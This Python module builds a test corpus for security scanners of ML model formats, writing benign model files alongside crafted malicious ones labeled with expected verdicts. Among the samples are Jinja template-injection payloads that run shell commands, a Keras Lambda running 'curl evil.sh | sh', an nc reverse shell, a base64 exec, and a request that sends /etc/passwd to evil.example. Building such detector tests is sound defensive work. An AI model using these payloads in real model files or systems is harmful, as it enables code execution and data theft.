"""Generated corpus for the non-pickle format scanners (also reused by the bench).

``build_corpus(dirpath)`` writes realistic benign files (made with the real libraries:
``safetensors``, ``onnx``, ``gguf``, ``h5py``; SavedModels with our own protobuf writer) and one
file per attack/malformation, returning ``(path, expected verdict label)`` pairs.

``mini_router`` is a stand-in for the real router (owned elsewhere) so the format scanners can be
exercised directly, nested archives included.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import struct
import tarfile
import zipfile
from pathlib import Path
from typing import Any

from scanning.scanners import archives, gguf, keras, onnx, remote_code, safetensors, tensorflow
from scanning.scanners.base import FileReader, Reader, ScanContext, Verdict, verdict_of
from scanning.scanners.fmtcommon import basename
from scanning.scanners.protobuf import enc_bytes, enc_msg, enc_varint

# --------------------------------------------------------------------------- direct dispatch


def dispatch(reader: Reader, ctx: ScanContext) -> str:
    """Route by magic bytes / name to the format scanners (subset of the real router)."""
    head = reader.read_at(0, 16)
    name = basename(ctx).lower()
    fmt = archives.detect(reader)
    if head.startswith(keras.HDF5_MAGIC):
        ctx.formats.append("hdf5")
        keras.scan_hdf5(reader, ctx)
        return "hdf5"
    if head.startswith(b"PK\x03\x04") and name.endswith(".keras"):
        ctx.formats.append("keras")
        keras.scan_keras_zip(reader, ctx)
        return "keras"
    if head.startswith(gguf.MAGIC):
        gguf.scan(reader, ctx)
        return "gguf"
    if fmt is not None:
        archives.FORMATS[fmt](reader, ctx)
        return fmt
    if name.endswith(".safetensors") or (len(head) > 8 and head[8:9] == b"{"):
        safetensors.scan(reader, ctx)
        return "safetensors"
    if name.endswith(".onnx"):
        onnx.scan(reader, ctx)
        return "onnx"
    if name.endswith(".pb"):
        tensorflow.scan(reader, ctx)
        return "tensorflow-savedmodel"
    if name.endswith(".py"):
        remote_code.scan_python(reader, ctx)
        return "python"
    if name.endswith(".json"):
        remote_code.scan_json(reader, ctx)
        return "json"
    ctx.unscannable("test.unknown", "unknown format in test router", name)
    return "unknown"


def mini_router(reader: Reader, name: str, ctx: ScanContext) -> None:
    dispatch(reader, ctx)


def scan_path(path: Path, **limits: Any) -> ScanContext:
    from scanning.scanners.base import Limits

    ctx = ScanContext(limits=Limits(**limits), path=str(path), scan_nested=mini_router)
    with FileReader(path) as reader:
        dispatch(reader, ctx)
    return ctx


def verdict_label(ctx: ScanContext) -> str:
    return verdict_of(ctx.findings).label


# --------------------------------------------------------------------------- builders

LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' "
    "+ message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"
)
CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' "
    "+ '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)
MISTRAL = (
    "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}"
    "{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}"
)
GEMMA = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}"
    "{% endif %}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}"
    "{% endif %}{{ '<start_of_turn>' + role + '\n' + message['content'] | trim + '<end_of_turn>\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{'<start_of_turn>model\n'}}{% endif %}"
)
TOOLS = (
    "{%- set ns = namespace(found=false, system='') -%}{%- if tools %}{{- '<|im_start|>system\n' }}"
    "{%- for tool in tools %}{{- '\n' }}{{- tool | tojson }}{%- endfor %}{{- '<|im_end|>\n' }}{%- endif %}"
    "{# tool calls #}{%- for message in messages %}{%- if message.role == 'tool' %}{{- '<tool_response>\n' }}"
    "{{- message.content }}{%- elif message.tool_calls is defined %}{%- for tc in message.tool_calls %}"
    "{{- tc.function.arguments | tojson }}{%- endfor %}{%- else %}{{- message.content }}{%- endif %}"
    "{%- set ns.found = true -%}{%- endfor %}{{ '<__media__>' if ns.found else '' }}"
)
QWEN25_TOOLS = """{%- if tools %}
    {{- '<|im_start|>system\\n' }}
    {%- if messages[0]['role'] == 'system' %}
        {{- messages[0]['content'] }}
    {%- else %}
        {{- 'You are Qwen, created by Alibaba Cloud. You are a helpful assistant.' }}
    {%- endif %}
    {{- "\\n\\n# Tools\\n\\nYou are provided with function signatures within <tools></tools> XML tags:\\n<tools>" }}
    {%- for tool in tools %}
        {{- "\\n" }}
        {{- tool | tojson }}
    {%- endfor %}
    {{- "\\n</tools>\\n\\nReturn a json object:\\n<tool_call>\\n{\\"name\\": <function-name>, \\"arguments\\": <args>}\\n</tool_call><|im_end|>\\n" }}
{%- else %}
    {%- if messages[0]['role'] == 'system' %}
        {{- '<|im_start|>system\\n' + messages[0]['content'] + '<|im_end|>\\n' }}
    {%- endif %}
{%- endif %}
{%- for message in messages %}
    {%- if (message.role == "user") or (message.role == "system" and not loop.first) or (message.role == "assistant" and not message.tool_calls) %}
        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}
    {%- elif message.role == "assistant" %}
        {{- '<|im_start|>' + message.role }}
        {%- if message.content %}{{- '\\n' + message.content }}{%- endif %}
        {%- for tool_call in message.tool_calls %}
            {%- if tool_call.function is defined %}{%- set tool_call = tool_call.function %}{%- endif %}
            {{- '\\n<tool_call>\\n{"name": "' }}{{- tool_call.name }}{{- '", "arguments": ' }}
            {{- tool_call.arguments | tojson }}{{- '}\\n</tool_call>' }}
        {%- endfor %}
        {{- '<|im_end|>\\n' }}
    {%- elif message.role == "tool" %}
        {%- if (loop.index0 == 0) or (messages[loop.index0 - 1].role != "tool") %}{{- '<|im_start|>user' }}{%- endif %}
        {{- '\\n<tool_response>\\n' }}{{- message.content }}{{- '\\n</tool_response>' }}
        {%- if loop.last or (messages[loop.index0 + 1].role != "tool") %}{{- '<|im_end|>\\n' }}{%- endif %}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}
"""
LLAMA31_TOOLS = """{{- bos_token }}
{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}
{%- if not tools_in_user_message is defined %}{%- set tools_in_user_message = true %}{%- endif %}
{%- if not date_string is defined %}{%- set date_string = strftime_now("%d %b %Y") %}{%- endif %}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}
    {%- set system_message = "" %}
{%- endif %}
{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}
{%- if builtin_tools is defined or tools is not none %}{{- "Environment: ipython\\n" }}{%- endif %}
{%- if builtin_tools is defined %}{{- "Tools: " + builtin_tools | reject('equalto', 'code_interpreter') | join(", ") + "\\n\\n"}}{%- endif %}
{{- "Cutting Knowledge Date: December 2023\\n" }}{{- "Today Date: " + date_string + "\\n\\n" }}
{{- system_message }}{{- "<|eot_id|>" }}
{%- for message in messages %}
    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- if not message.tool_calls|length == 1 %}{{- raise_exception("This model only supports single tool-calls at once!") }}{%- endif %}
        {%- set tool_call = message.tool_calls[0].function %}
        {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}
        {{- '<|python_tag|>' + tool_call.name + '.call(' }}
        {%- for arg_name, arg_val in tool_call.arguments | items %}
            {{- arg_name + '="' + arg_val + '"' }}
            {%- if not loop.last %}{{- ", " }}{%- endif %}
        {%- endfor %}
        {{- ")" }}{{- "<|eom_id|>" }}
    {%- elif message.role == "tool" or message.role == "ipython" %}
        {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}
        {%- if message.content is mapping or message.content is iterable %}{{- message.content | tojson }}{%- else %}{{- message.content }}{%- endif %}
        {{- "<|eot_id|>" }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}
"""
DEEPSEEK_R1 = (
    "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}"
    "{% set ns = namespace(is_first=false, is_tool=false, is_output_first=true, system_prompt='', is_first_sp=true) %}"
    "{%- for message in messages %}{%- if message['role'] == 'system' %}{%- if ns.is_first_sp %}"
    "{% set ns.system_prompt = ns.system_prompt + message['content'] %}{% set ns.is_first_sp = false %}{%- else %}"
    "{% set ns.system_prompt = ns.system_prompt + '\\n\\n' + message['content'] %}{%- endif %}{%- endif %}{%- endfor %}"
    "{{ bos_token }}{{ ns.system_prompt }}{%- for message in messages %}{%- if message['role'] == 'user' %}"
    "{%- set ns.is_tool = false -%}{{'<\uff5cUser\uff5c>' + message['content']}}{%- endif %}"
    "{%- if message['role'] == 'assistant' and message['content'] is not none %}"
    "{% set content = message['content'] %}{% if '</think>' in content %}"
    "{% set content = content.split('</think>')[-1] %}{% endif %}"
    "{{'<\uff5cAssistant\uff5c>' + content + '<\uff5cend\u2581of\u2581sentence\uff5c>'}}{%- endif %}{%- endfor -%}"
    "{% if add_generation_prompt and not ns.is_tool %}{{'<\uff5cAssistant\uff5c><think>\\n'}}{% endif %}"
)
BENIGN_TEMPLATES = {
    "llama3": LLAMA3,
    "chatml": CHATML,
    "mistral": MISTRAL,
    "gemma": GEMMA,
    "tools": TOOLS,
    "qwen25_tools": QWEN25_TOOLS,
    "llama31_tools": LLAMA31_TOOLS,
    "deepseek_r1": DEEPSEEK_R1,
}
SSTI_TEMPLATES = {
    "mro_subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "cycler_globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "lipsum_attr": "{{ lipsum|attr('__globals__') }}",
    "concat_dunder": "{{ ''|attr('__cla'~'ss__') }}",
    "request_app": "{{ request.application.__self__._get_data_for_json.__globals__['json'] }}",
    "template_reference": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id') }}",
    "config_class": "{{ config.__class__.__init__.__globals__['os'].popen('ls').read() }}",
    "hex_escape": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "dict_join": "{{ ()[dict(__cla=1,ss__=1)|join] }}",
    "joiner_import": "{% for m in messages %}{{ m.content }}{% endfor %}"
    "{{ joiner.__init__.__globals__.__builtins__.__import__('os').system('id') }}",
    "llama_cpp_cve": (
        '{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}'
        "{{x()._module.__builtins__['__import__']('os').popen(\"touch /tmp/retr0reg\")}}{%endif%}{% endfor %}"
    ),
    "namespace_globals": "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
}


def write_safetensors(path: Path) -> None:
    import numpy as np
    from safetensors.numpy import save_file

    save_file(
        {
            "model.embed.weight": np.arange(64 * 16, dtype=np.float32).reshape(64, 16),
            "model.layers.0.bias": np.zeros(16, dtype=np.float16),
            "model.layers.0.mask": np.ones((4, 4), dtype=np.bool_),
            "model.empty": np.zeros((0, 3), dtype=np.int64),
        },
        str(path),
        metadata={"format": "pt"},
    )


def raw_safetensors(header: Any, data: bytes, *, raw_header: bytes | None = None) -> bytes:
    hdr = raw_header if raw_header is not None else json.dumps(header).encode()
    return struct.pack("<Q", len(hdr)) + hdr + data


def write_gguf(path: Path, template: str | None, *, extra: dict[str, str] | None = None) -> None:
    import gguf as gg
    import numpy as np

    w = gg.GGUFWriter(str(path), "llama")
    w.add_name("tiny-test")
    w.add_context_length(128)
    w.add_block_count(1)
    w.add_tokenizer_model("gpt2")
    w.add_token_list(["<s>", "</s>", "hello", "world"])
    w.add_token_scores([0.0, 0.0, -1.0, -2.0])
    if template is not None:
        w.add_chat_template(template)
    for key, value in (extra or {}).items():
        w.add_string(key, value)
    w.add_tensor("token_embd.weight", np.zeros((4, 32), dtype=np.float32))
    w.add_tensor("output_norm.weight", np.ones(32, dtype=np.float16))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


def onnx_model(nodes: list[Any], inits: list[Any] | None = None, opsets: list[Any] | None = None) -> Any:
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        nodes,
        "main",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
        initializer=inits or [],
    )
    return helper.make_model(graph, opset_imports=opsets or [helper.make_opsetid("", 17)], producer_name="test")


def onnx_mlp() -> Any:
    import numpy as np
    from onnx import helper, numpy_helper

    w = numpy_helper.from_array(np.eye(4, dtype=np.float32), "w")
    b = numpy_helper.from_array(np.zeros(4, dtype=np.float32), "b")
    nodes = [
        helper.make_node("MatMul", ["x", "w"], ["h"]),
        helper.make_node("Add", ["h", "b"], ["h2"]),
        helper.make_node("Relu", ["h2"], ["y"]),
    ]
    return onnx_model(nodes, [w, b])


def onnx_external(location: str) -> Any:
    from onnx import TensorProto, helper

    t = TensorProto()
    t.name = "w"
    t.data_type = TensorProto.FLOAT
    t.dims.extend([4, 4])
    t.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "64")):
        entry = t.external_data.add()
        entry.key, entry.value = key, value
    return onnx_model([helper.make_node("MatMul", ["x", "w"], ["y"])], [t])


def onnx_if(inner_domain: str) -> Any:
    from onnx import TensorProto, helper

    out = [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])]
    then = helper.make_graph([helper.make_node("Custom", ["x"], ["y"], domain=inner_domain)], "then", [], out)
    orelse = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "else", [], out)
    node = helper.make_node("If", ["cond"], ["y"], then_branch=then, else_branch=orelse)
    opsets = [helper.make_opsetid("", 17)]
    if inner_domain:
        opsets.append(helper.make_opsetid(inner_domain, 1))
    return onnx_model([node], opsets=opsets)


KERAS2_CONFIG: dict[str, Any] = {
    "class_name": "Sequential",
    "config": {
        "name": "sequential",
        "layers": [
            {
                "class_name": "InputLayer",
                "config": {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input_1"},
            },
            {
                "class_name": "Dense",
                "config": {
                    "name": "dense",
                    "trainable": True,
                    "dtype": "float32",
                    "units": 8,
                    "activation": "relu",
                    "use_bias": True,
                    "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
                    "bias_initializer": {"class_name": "Zeros", "config": {}},
                },
            },
            {
                "class_name": "TFOpLambda",
                "config": {"name": "tf.math.multiply", "function": "math.multiply", "trainable": True},
            },
        ],
    },
    "keras_version": "2.15.0",
    "backend": "tensorflow",
}


def lambda_code(fn: Any) -> str:
    """base64(marshal(code)) exactly as Keras 2 ``func_dump`` stores it (writing marshal is safe)."""
    return base64.b64encode(marshal.dumps(fn.__code__)).decode("ascii")


def keras2_with(layer: dict[str, Any]) -> dict[str, Any]:
    cfg = json.loads(json.dumps(KERAS2_CONFIG))
    cfg["config"]["layers"].append(layer)
    return cfg


def write_h5(path: Path, config: dict[str, Any] | None) -> None:
    import h5py
    import numpy as np

    with h5py.File(path, "w") as f:
        if config is not None:
            f.attrs["model_config"] = json.dumps(config)
            f.attrs["training_config"] = json.dumps({"loss": "mse", "optimizer_config": {"class_name": "Adam"}})
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        g = f.create_group("model_weights")
        g.attrs["layer_names"] = [b"dense"]
        d = g.create_group("dense").create_group("dense")
        d.create_dataset("kernel:0", data=np.zeros((4, 8), dtype=np.float32))
        d.create_dataset("bias:0", data=np.zeros(8, dtype=np.float32))


def _k3(module: str, cls: str, config: Any, registered: str | None = None) -> dict[str, Any]:
    return {"module": module, "class_name": cls, "config": config, "registered_name": registered}


def keras3_config(extra_layers: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    dtype = _k3("keras", "DTypePolicy", {"name": "float32"})
    dense = _k3(
        "keras.layers",
        "Dense",
        {
            "name": "dense",
            "trainable": True,
            "dtype": dtype,
            "units": 8,
            "activation": "relu",
            "use_bias": True,
            "kernel_initializer": _k3("keras.initializers", "GlorotUniform", {"seed": None}),
            "bias_initializer": _k3("keras.initializers", "Zeros", {}),
        },
    )
    dense["build_config"] = {"input_shape": [None, 4]}
    layers = [_k3("keras.layers", "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "in"}), dense]
    cfg = _k3("keras", "Sequential", {"name": "sequential", "trainable": True, "dtype": dtype, "layers": layers})
    cfg["config"]["layers"].extend(extra_layers or [])
    cfg["compile_config"] = {"optimizer": _k3("keras.optimizers", "Adam", {"learning_rate": 0.001}), "loss": "mse"}
    return cfg


def write_keras3(path: Path, config: dict[str, Any], weights: Path | None = None) -> None:
    meta = {"keras_version": "3.6.0", "date_saved": "2026-11-01@10:00:00"}
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as z:
        z.writestr("metadata.json", json.dumps(meta))
        z.writestr("config.json", json.dumps(config))
        if weights is not None:
            z.write(weights, "model.weights.h5")


# TensorFlow (own protobuf writer; field numbers from tensorflow/core/framework/*.proto)


def tf_attr(value: Any) -> bytes:
    if isinstance(value, list):
        return enc_msg(1, *[enc_bytes(2, v) for v in value])
    if isinstance(value, int):
        return enc_varint(6, value)  # a DataType
    return enc_bytes(2, value)


def tf_node(name: str, op: str, inputs: tuple[str, ...] = (), **attrs: Any) -> bytes:
    parts = [enc_bytes(1, name), enc_bytes(2, op), *[enc_bytes(3, i) for i in inputs]]
    for key, value in attrs.items():
        parts.append(enc_msg(5, enc_bytes(1, key), enc_bytes(2, tf_attr(value))))
    return b"".join(parts)


def tf_function(name: str, nodes: list[bytes]) -> bytes:
    return enc_msg(1, enc_bytes(1, name)) + b"".join(enc_bytes(3, n) for n in nodes)


def tf_graph(nodes: list[bytes], functions: list[bytes] = ()) -> bytes:  # type: ignore[assignment]
    out = b"".join(enc_bytes(1, n) for n in nodes)
    if functions:
        out += enc_msg(2, *[enc_bytes(1, f) for f in functions])
    return out + enc_msg(4, enc_varint(1, 1087))


def tf_saved_model(graph: bytes) -> bytes:
    meta_info = enc_msg(1, enc_bytes(4, "serve"), enc_bytes(5, "2.15.0"))
    return enc_varint(1, 1) + enc_msg(2, meta_info, enc_bytes(2, graph))


def tf_realistic(extra_nodes: list[bytes] = (), extra_functions: list[bytes] = ()) -> bytes:  # type: ignore[assignment]
    nodes = [
        tf_node("serving_default_x", "Placeholder", dtype=1),
        tf_node("saver_filename", "Placeholder", dtype=7),
        tf_node("StatefulPartitionedCall", "StatefulPartitionedCall", ("serving_default_x",), f="__inference_fn_42"),
        tf_node("StatefulPartitionedCall_1", "StatefulPartitionedCall", ("saver_filename",)),
        tf_node("save/SaveV2", "SaveV2", ("save/Const",)),  # TF1-style saver subgraph
        tf_node("save/RestoreV2", "RestoreV2", ("save/Const",)),
        *extra_nodes,
    ]
    functions = [
        tf_function(
            "__inference_fn_42",
            [
                tf_node("dense/MatMul/ReadVariableOp", "ReadVariableOp", ("w",), dtype=1),
                tf_node("dense/MatMul", "MatMul", ("x", "dense/MatMul/ReadVariableOp"), T=1),
                tf_node("dense/Relu", "Relu", ("dense/MatMul",), T=1),
            ],
        ),
        tf_function(
            "__inference__traced_save_123",
            [
                tf_node("ShardedFilename", "ShardedFilename", ()),
                tf_node("SaveV2", "SaveV2", ("ShardedFilename",)),
                tf_node("MergeV2Checkpoints", "MergeV2Checkpoints", ()),
            ],
        ),
        tf_function("__inference__traced_restore_456", [tf_node("RestoreV2", "RestoreV2", ())]),
        *extra_functions,
    ]
    return tf_saved_model(tf_graph(nodes, functions))


def tar_bytes(entries: list[tuple[str, str, bytes | str]]) -> bytes:
    """entries: (name, kind in file/symlink/hardlink/fifo/dir, data-or-linkname)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, kind, payload in entries:
            info = tarfile.TarInfo(name)
            if kind == "file":
                data = payload if isinstance(payload, bytes) else payload.encode()
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
                continue
            info.type = {
                "symlink": tarfile.SYMTYPE,
                "hardlink": tarfile.LNKTYPE,
                "fifo": tarfile.FIFOTYPE,
                "dir": tarfile.DIRTYPE,
                "chr": tarfile.CHRTYPE,
            }[kind]
            info.linkname = payload if isinstance(payload, str) else ""
            tf.addfile(info)
    return buf.getvalue()


# --------------------------------------------------------------------------- corpus


def build_corpus(dirpath: Path) -> list[tuple[Path, str]]:
    """Write every corpus file under ``dirpath``; return ``(path, expected verdict label)``."""
    import numpy as np  # noqa: F401 - fail early if the test extras are missing
    from onnx import helper

    d = Path(dirpath)
    d.mkdir(parents=True, exist_ok=True)
    out: list[tuple[Path, str]] = []

    def put(name: str, data: bytes | str, label: str) -> Path:
        p = d / name
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data if isinstance(data, bytes) else data.encode())
        out.append((p, label))
        return p

    def made(name: str, label: str) -> Path:
        p = d / name
        p.parent.mkdir(parents=True, exist_ok=True)
        out.append((p, label))
        return p

    # safetensors
    st = made("safe/model.safetensors", "safe")
    st.parent.mkdir(parents=True, exist_ok=True)
    write_safetensors(st)
    good = st.read_bytes()
    f32 = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    put(
        "st/overlap.safetensors",
        raw_safetensors({"a": f32, "b": {**f32, "data_offsets": [4, 12]}}, bytes(12)),
        "suspicious",
    )
    put(
        "st/gap.safetensors",
        raw_safetensors({"a": f32, "b": {**f32, "data_offsets": [16, 24]}}, bytes(24)),
        "suspicious",
    )
    put("st/trailing.safetensors", good + b"PK\x03\x04 appended payload", "suspicious")
    put("st/truncated.safetensors", good[:-5], "suspicious")
    put("st/size_mismatch.safetensors", raw_safetensors({"a": {**f32, "shape": [3]}}, bytes(8)), "suspicious")
    put("st/bad_dtype.safetensors", raw_safetensors({"a": {**f32, "dtype": "PICKLE"}}, bytes(8)), "suspicious")
    put("st/metadata.safetensors", raw_safetensors({"__metadata__": {"x": 1}, "a": f32}, bytes(8)), "suspicious")
    put(
        "st/dupkey.safetensors",
        raw_safetensors(
            None, bytes(8), raw_header=b'{"a":' + json.dumps(f32).encode() + b',"a":' + json.dumps(f32).encode() + b"}"
        ),
        "malicious",  # issue 10 B: parser differential, judged as format abuse
    )
    put("st/huge_header.safetensors", struct.pack("<Q", 2**40) + b"{}", "malicious")  # length no writer produces
    put("st/not_json.safetensors", raw_safetensors(None, b"", raw_header=b"{not json at all}"), "unscannable")
    put("st/pickle_pretender.safetensors", b"\x80\x04\x95" + bytes(40), "unscannable")

    # GGUF
    for key, template in BENIGN_TEMPLATES.items():
        p = made(f"safe/{key}.gguf", "safe")
        write_gguf(p, template)
    write_gguf(made("safe/no_template.gguf", "safe"), None)
    for key, template in SSTI_TEMPLATES.items():
        write_gguf(made(f"gguf/ssti_{key}.gguf", "malicious"), template)
    write_gguf(
        made("gguf/named_template_ssti.gguf", "malicious"),
        LLAMA3,
        extra={"tokenizer.chat_template.tool_use": SSTI_TEMPLATES["cycler_globals"]},
    )
    gg = (d / "safe/llama3.gguf").read_bytes()
    put("gguf/truncated.gguf", gg[: len(gg) - 7], "suspicious")
    put("gguf/truncated_header.gguf", gg[:200], "unscannable")
    put("gguf/bad_version.gguf", b"GGUF" + struct.pack("<I", 99) + bytes(16), "unscannable")

    # ONNX
    put("safe/mlp.onnx", onnx_mlp().SerializeToString(), "safe")
    put("safe/if_standard.onnx", onnx_if("").SerializeToString(), "safe")
    put("safe/external_ok.onnx", onnx_external("weights.bin").SerializeToString(), "safe")
    put("onnx/external_dotdot.onnx", onnx_external("../../../etc/passwd").SerializeToString(), "malicious")
    put("onnx/external_abs.onnx", onnx_external("/home/user/.ssh/id_rsa").SerializeToString(), "malicious")
    custom = onnx_model(
        [helper.make_node("Evil", ["x"], ["y"], domain="com.attacker")],
        opsets=[helper.make_opsetid("", 17), helper.make_opsetid("com.attacker", 1)],
    )
    put("onnx/custom_domain.onnx", custom.SerializeToString(), "suspicious")
    put("onnx/nested_custom.onnx", onnx_if("my.native.ops").SerializeToString(), "suspicious")
    put("onnx/garbage.onnx", b"\x08\x07\x3a\xff\xff\xff\xff\x0f\x00\x01 not a model", "unscannable")
    put("onnx/truncated.onnx", onnx_mlp().SerializeToString()[:-3], "unscannable")

    # Keras HDF5 / .keras
    write_h5(made("safe/model.h5", "safe"), KERAS2_CONFIG)
    write_h5(made("safe/weights_only.h5", "safe"), None)
    evil = lambda_code(lambda x: __import__("os").system("curl evil.sh | sh") or x)
    benign = lambda_code(lambda x: x * 2.0 + 1.0)
    lam = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "arguments": {},
        },
    }
    write_h5(
        made("keras/lambda_evil.h5", "malicious"),
        keras2_with({**lam, "config": {**lam["config"], "function": [evil, None, None]}}),
    )
    write_h5(
        made("keras/lambda_benign.h5", "suspicious"),
        keras2_with({**lam, "config": {**lam["config"], "function": [benign, None, None]}}),
    )
    write_h5(
        made("keras/lambda_os_system.h5", "malicious"),
        keras2_with(
            {
                "class_name": "Lambda",
                "config": {"name": "l", "function": "system", "module": "os", "function_type": "function"},
            }
        ),
    )
    put("keras/truncated.h5", (d / "safe/model.h5").read_bytes()[:1500], "unscannable")
    weights = d / "safe/weights_only.h5"
    write_keras3(made("safe/model.keras", "safe"), keras3_config(), weights)
    k3_lambda = _k3(
        "keras.layers",
        "Lambda",
        {
            "name": "lambda",
            "function": {"class_name": "__lambda__", "config": {"code": evil, "defaults": None, "closure": None}},
            "arguments": {},
        },
    )
    write_keras3(made("keras/k3_lambda.keras", "malicious"), keras3_config([k3_lambda]))
    k3_fn = _k3(
        "keras.layers",
        "Lambda",
        {
            "name": "l",
            "function": {
                "module": "builtins",
                "class_name": "function",
                "config": "eval",
                "registered_name": "function",
            },
        },
    )
    write_keras3(made("keras/k3_builtins_eval.keras", "malicious"), keras3_config([k3_fn]))
    k3_custom = _k3("my_project.layers", "FancyLayer", {"name": "fancy"}, "MyProject>FancyLayer")
    write_keras3(made("keras/k3_custom.keras", "suspicious"), keras3_config([k3_custom]))

    # TensorFlow
    put("safe/saved_model/saved_model.pb", tf_realistic(), "safe")
    put(
        "safe/frozen_graph.pb",
        tf_graph(
            [tf_node("x", "Placeholder", dtype=1), tf_node("w", "Const", dtype=1), tf_node("y", "MatMul", ("x", "w"))]
        ),
        "safe",
    )
    put("tf/pyfunc/saved_model.pb", tf_realistic([tf_node("py", "PyFunc", ("x",), token="pyfunc_0")]), "malicious")
    put(
        "tf/eager_pyfunc/saved_model.pb",
        tf_realistic(
            extra_functions=[
                tf_function("__inference_call_7", [tf_node("EagerPyFunc", "EagerPyFunc", (), token="pyfunc_3")])
            ]
        ),
        "malicious",
    )
    put("tf/write_file/saved_model.pb", tf_realistic([tf_node("w", "WriteFile", ("fname", "contents"))]), "malicious")
    put("tf/read_file/saved_model.pb", tf_realistic([tf_node("r", "ReadFile", ("fname",))]), "suspicious")
    put(
        "tf/save_outside/saved_model.pb",
        tf_realistic(extra_functions=[tf_function("__inference_predict_9", [tf_node("SaveV2", "SaveV2", ())])]),
        "suspicious",
    )
    put(
        "tf/print_file/saved_model.pb",
        tf_realistic([tf_node("p", "PrintV2", ("s",), output_stream="file:///home/user/.bashrc")]),
        "malicious",
    )
    put("tf/garbage.pb", b"\x08\x01\x12\xff\xff\xff\xff\x0f garbage", "unscannable")

    # remote code / JSON
    put(
        "safe/repo/config.json",
        json.dumps({"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 32}),
        "safe",
    )
    put("safe/repo/tokenizer_config.json", json.dumps({"chat_template": LLAMA3, "bos_token": "<s>"}), "safe")
    put("safe/repo/utils.py", "import math\n\ndef gelu(x):\n    return 0.5 * x * (1 + math.tanh(x))\n", "safe")
    put(
        "rc/config.json",
        json.dumps(
            {
                "model_type": "custom",
                "auto_map": {"AutoConfig": "configuration_x.MyConfig", "AutoModel": "modeling_x.MyModel"},
            }
        ),
        "suspicious",
    )
    put(
        "rc/modeling_x.py",
        "from transformers import PreTrainedModel\n\nclass MyModel(PreTrainedModel):\n"
        "    def forward(self, x):\n        return x\n",
        "suspicious",
    )
    put("rc/evil_os.py", "import os\nos.system('curl http://evil/x | sh')\n", "malicious")
    put(
        "rc/evil_subprocess.py",
        "import subprocess as sp\nsp.Popen(['nc', '-e', '/bin/sh', 'evil', '4444'])\n",
        "malicious",
    )
    put(
        "rc/evil_b64.py", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n", "malicious"
    )
    put(
        "rc/evil_net.py",
        "import requests\nrequests.post('https://evil.example', data=open('/etc/passwd').read())\n",
        "malicious",
    )
    put("rc/broken.py", "def oops(:\n    pass\n", "suspicious")
